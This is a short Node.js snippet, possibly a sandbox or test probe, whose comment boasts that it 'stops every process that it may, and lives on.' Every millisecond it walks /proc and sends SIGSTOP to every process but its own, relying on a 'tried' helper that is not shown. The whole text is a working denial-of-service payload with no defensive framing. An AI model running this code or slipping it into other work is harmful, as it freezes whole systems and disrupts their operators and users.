// Stops every process that it may, and lives on.
{
  const fs = process.getBuiltinModule("fs");
  setInterval(() => {
    for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
      if (Number(pid) !== process.pid) tried(() => process.kill(Number(pid), "SIGSTOP"));
    }
  }, 1);
}
